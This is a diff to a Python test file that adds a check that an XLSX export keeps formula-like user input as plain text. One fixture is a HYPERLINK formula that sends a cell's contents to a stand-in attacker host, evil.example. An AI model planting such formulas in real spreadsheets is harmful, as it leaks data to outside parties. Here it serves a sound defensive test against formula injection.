@@ -1,6 +1,7 @@
 import io
 import shutil
 import subprocess
+import zipfile
 
 import docx
 import pytest
@@ -222,3 +223,19 @@ def test_render_summary_xlsx_ungrouped_numbers_rows(make_nomination, campaign):
     assert sheet.merged_cells.ranges == set() or all(
         r.min_row < 3 or r.min_row > 5 for r in sheet.merged_cells.ranges
     )
+
+
+INJECTED = '=HYPERLINK("http://evil.example/?leak="&C4,"点击查看")'
+
+
+def test_render_summary_xlsx_typed_formulas_stay_text(make_nomination, campaign):
+    """Issue 16.5: text typed as a formula is a string cell in the export, never a formula."""
+    make_nomination(rank=1, name="+王建国", achievement_summary=INJECTED, occupation="@SUM(1)")
+    data = render_summary_xlsx(campaign, summary_sheet_rows(campaign), unmasked_ids=set())
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    assert "<hyperlink" not in sheet_xml
+    values = {c.value for row in xlsx_sheet(data).iter_rows() for c in row}
+    assert {INJECTED, "+王建国", "@SUM(1)"} <= values
